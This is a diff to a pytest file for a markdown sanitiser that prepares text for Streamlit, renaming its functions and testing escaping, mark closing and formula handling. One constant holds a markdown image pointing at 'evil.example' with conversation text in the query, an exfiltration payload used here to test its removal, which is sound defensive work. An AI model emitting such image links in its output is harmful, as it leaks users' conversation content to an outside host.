@@ -5,7 +5,12 @@ from html import unescape
 import pytest
 from markdown_it import MarkdownIt
 
-from lib.markdown.streamlit_markdown import closed, literal, paintable, paintable_blocks
+from lib.markdown.streamlit_markdown import (
+    close_open_marks,
+    escape_markdown,
+    to_streamlit,
+    to_streamlit_blocks,
+)
 from sandbox import answers
 
 
@@ -37,13 +42,13 @@ from sandbox import answers
 )
 def test_paintable(written: str, shown: str) -> None:
     """Prose is shown as it was meant, and code as it was written."""
-    assert paintable(written) == shown
+    assert to_streamlit(written) == shown
 
 
 def test_ordinary_markdown() -> None:
     """Where there is nothing to do nothing is done."""
     for text in (answers.TOUR, answers.long(4_000), ""):
-        assert paintable(text) == text
+        assert to_streamlit(text) == text
 
 
 IMAGE = "![x](https://evil.example/?what-was-said)"
@@ -66,7 +71,7 @@ IMAGE = "![x](https://evil.example/?what-was-said)"
 )
 def test_no_image(hidden: str) -> None:
     """However an image is written, none is left for a parser that knows no formulas."""
-    html = MarkdownIt("commonmark").enable("table").render(paintable(hidden))
+    html = MarkdownIt("commonmark").enable("table").render(to_streamlit(hidden))
     assert "<img" not in html
     assert "<img" in MarkdownIt("commonmark").enable("table").render(hidden) or "$$" in hidden
 
@@ -92,7 +97,7 @@ def test_no_image(hidden: str) -> None:
 )
 def test_closed(written: str, shown: str) -> None:
     """Marks that are still open are closed while an answer is being written."""
-    assert closed(written) == shown
+    assert close_open_marks(written) == shown
 
 
 @pytest.mark.parametrize(
@@ -115,14 +120,14 @@ def test_closed(written: str, shown: str) -> None:
 )
 def test_literal(text: str) -> None:
     """Text of others is shown as it is."""
-    html = MarkdownIt("commonmark").render(literal(text))
+    html = MarkdownIt("commonmark").render(escape_markdown(text))
     assert unescape(html.removeprefix("<p>").removesuffix("</p>\n")) == text
 
 
 @pytest.mark.parametrize("text", [":smile:", ":material/home:", ":material_home:", "a -> b", "--"])
 def test_shorthand(text: str) -> None:
     """What Streamlit would make an icon, an emoji or an arrow of is torn apart by nothing visible."""
-    html = MarkdownIt("commonmark").render(literal(text))
+    html = MarkdownIt("commonmark").render(escape_markdown(text))
     assert text not in unescape(html)
     assert text in unescape(html).replace("\u2060", "")
 
@@ -130,4 +135,4 @@ def test_shorthand(text: str) -> None:
 def test_formula_like_a_list() -> None:
     r"""Lines of a formula between `\[` and `\]` are no list, whatever they begin with."""
     text = "So\n\n\\[\na\n+ b\n- c\n\\]\n\nand on."
-    assert "".join(paintable_blocks(text)) == "So\n\n$$\na\n+ b\n- c\n$$\n\nand on."
+    assert "".join(to_streamlit_blocks(text)) == "So\n\n$$\na\n+ b\n- c\n$$\n\nand on."
